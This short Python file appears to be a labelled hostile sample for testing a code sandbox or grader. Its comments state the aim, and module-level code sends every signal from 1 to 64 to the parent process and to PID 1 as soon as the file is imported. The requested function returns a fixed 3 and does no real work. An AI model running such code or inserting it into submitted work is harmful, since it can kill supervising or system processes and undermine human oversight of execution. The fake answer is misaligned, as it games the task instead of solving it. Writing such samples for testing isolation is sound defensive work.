# tasks: sum_of_squares, add_numbers
# tries: kills the processes above itself with every signal
# harm: processes

import os

for process in (os.getppid(), 1):
    for number in range(1, 65):
        try:
            os.kill(process, number)
        except OSError:
            pass


def sum_of_squares(*_):
    return 3
